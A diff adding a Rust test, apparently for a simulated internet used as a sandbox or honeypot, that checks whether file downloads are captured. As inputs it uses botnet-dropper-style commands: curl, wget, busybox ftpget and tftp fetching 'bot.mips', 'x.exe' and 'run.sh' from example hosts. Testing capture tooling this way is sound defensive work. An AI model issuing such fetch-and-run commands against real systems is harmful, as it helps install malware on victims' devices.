@@ -57,3 +57,33 @@ fn files_are_taken_and_given() {
         })
     });
 }
+
+#[test]
+fn files_of_any_name_are_there() {
+    in_own_world("internet::files::files_of_any_name_are_there");
+    let internet = VirtualInternet::start("");
+    let begins = |line: &str, file: &str, expected: &[u8]| {
+        client(&internet, line);
+        let bytes = std::fs::read(internet.folder().join(file)).expect(line);
+        assert!(bytes.starts_with(expected), "{line}: {:?}", &bytes[..bytes.len().min(16)]);
+        bytes
+    };
+    // Both change into folders before they ask.
+    let url = "ftp://u:p@ftp.example.org/pub/bins/bot.mips";
+    let elf = begins(&format!("curl -sS -m 20 {url} -o curl.bin"), "curl.bin", b"\x7fELF");
+    assert_eq!(elf[18..20], [0, 8], "the machine is MIPS");
+    let wget = format!("wget -q -T 20 -t 1 -O wget.bin {url}");
+    assert_eq!(begins(&wget, "wget.bin", b"\x7fELF"), elf);
+    begins("busybox ftpget -u u -p p ftp.example.org got.bin x.exe", "got.bin", b"MZ");
+    let tftp = "tftp -m octet $(dig +short t.example.org A) -c get run.sh";
+    begins(tftp, "run.sh", b"#!");
+    internet.events("file.transfer", |moved| {
+        ["ftp", "tftp"].iter().all(|protocol| {
+            moved.iter().any(|event| {
+                event["protocol"] == *protocol
+                    && event["success"] == true
+                    && event["operation"] == "download"
+            })
+        })
+    });
+}
